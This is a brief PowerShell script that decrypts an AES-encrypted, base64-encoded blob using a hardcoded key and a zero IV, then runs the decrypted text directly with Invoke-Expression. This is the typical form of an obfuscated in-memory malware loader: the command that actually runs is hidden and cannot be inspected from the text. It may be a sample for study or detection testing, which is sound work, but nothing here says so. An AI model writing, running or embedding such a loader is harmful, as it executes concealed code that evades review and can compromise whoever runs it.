$a=New-Object System.Security.Cryptography.AesManaged
$a.Mode=[System.Security.Cryptography.CipherMode]::CBC
$a.Padding=[System.Security.Cryptography.PaddingMode]::PKCS7
$a.Key=[Convert]::FromBase64String('AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=')
$a.IV=[Convert]::FromBase64String('AAAAAAAAAAAAAAAAAAAAAA==')
$d=$a.CreateDecryptor()
$c=[Convert]::FromBase64String('t4XpX9CNtZr7cZBKiB+gxiOeSpWMDzr/EElkuBnKZAWIecFR4hhebucM9j+ypvNBMPaqenf3FqsTSztRwi2CqXvUnznxEod+YiJ08K2lmII=')
iex ([Text.Encoding]::UTF8.GetString($d.TransformFinalBlock($c,0,$c.Length)))